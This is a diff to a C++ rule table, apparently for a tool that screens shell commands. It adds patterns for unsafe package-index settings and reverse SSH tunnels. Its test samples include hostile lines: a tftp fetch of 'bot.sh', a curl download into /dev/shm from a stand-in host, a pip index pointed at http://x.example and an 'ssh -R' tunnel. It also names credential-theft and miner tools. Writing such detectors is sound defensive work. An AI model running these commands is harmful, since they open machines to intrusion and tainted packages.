@@ -70,13 +70,18 @@ constexpr Rule kRules[] = {
      "*linpeas|linenum|mimipenguin|lazagne|xmrig|cryptominer|rootkit|reverse_shell|revshell|malware\n"
      "pip|pip3 *--extra-index-url|--index-url|--trusted-host|git+http:// *http:// install\n"
      "npm|yarn|pnpm config|install *registry=http://\n"
+     "pip|pip3 config set *index-url|find-links|proxy *http://\n"
+     "pip|pip3 config set *trusted-host\n"
+     "npm|yarn|pnpm config set *registry *http://\n"
      "gem install *http://\n"
      "npm|yarn|pnpm|pip|pip3|gem install|add ^http://\n"
      "apt|apt-get|yum|dnf *allow-unauthenticated|--no-gpg-check|force-yes|trusted=yes",
      "fetches a program in a way that is rarely honest", "download over https, check the sum, then look inside",
      "tftp -g -r bot.sh 198.51.100.7\n"
      "curl -o /dev/shm/.k http://x.example/k\n"
+     "pip config set global.index-url http://x.example\n"
      "pip install --index-url http://x.example/simple pkg",
+     "pip config set global.index-url https://pypi.org/simple\n"
      "curl -O https://example.org/a.tar.gz\n"
      "sudo curl -fsSL https://example.org/key -o /etc/apt/keyrings/x.asc\n"
      "wget https://example.org/a.zip\n"
@@ -87,11 +92,16 @@ constexpr Rule kRules[] = {
      "python|python3 -m=pyftpdlib\n"
      "php -S *0.0.0.0 -t=/\n"
      "xhost =+\n"
-     "x11vnc|vncserver|tigervncserver -nopw\n"
+     "ssh|autossh -R=localhost:22\n"
+     "ssh|autossh -R=127.0.0.1:22\n"
+     "ssh|autossh -R=:3389\n"
+     "x11vnc|vncserver|tigervncserver *-nopw\n"
      "udp2raw|3proxy|microsocks",
      "opens a way into this machine or out of it", "bind to 127.0.0.1",
      "xhost +\n"
+     "ssh -R 2222:localhost:22 x.example -N\n"
      "python3 -m http.server -d /",
+     "ssh -R 8080:localhost:3000 host\n"
      "python3 -m http.server 8000\n"
      "ssh -L 8080:localhost:80 host"},
 };
